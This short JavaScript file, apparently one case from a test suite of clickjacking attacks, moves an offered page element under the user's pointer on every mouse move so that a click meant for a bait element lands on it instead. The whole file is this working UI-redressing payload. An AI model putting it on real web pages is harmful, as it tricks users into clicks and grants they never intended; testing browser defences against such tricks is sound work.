/* Attack: the offer is pulled under the mouse when it reaches the bait, which lies elsewhere. */
import { lure } from "../lure.js";

lure({
  onOffer: (host) => {
    addEventListener(
      "pointermove",
      ({ clientX, clientY }) => {
        host.style.removeProperty("translate");
        const { x, y } = host.getBoundingClientRect();
        host.style.setProperty(
          "translate",
          `${clientX - 20 - x}px ${clientY - 20 - y}px`,
          "important",
        );
      },
      { capture: true },
    );
  },
  onBait: (bait) => {
    bait.style.left = "20px";
    bait.style.top = "20px";
  },
});
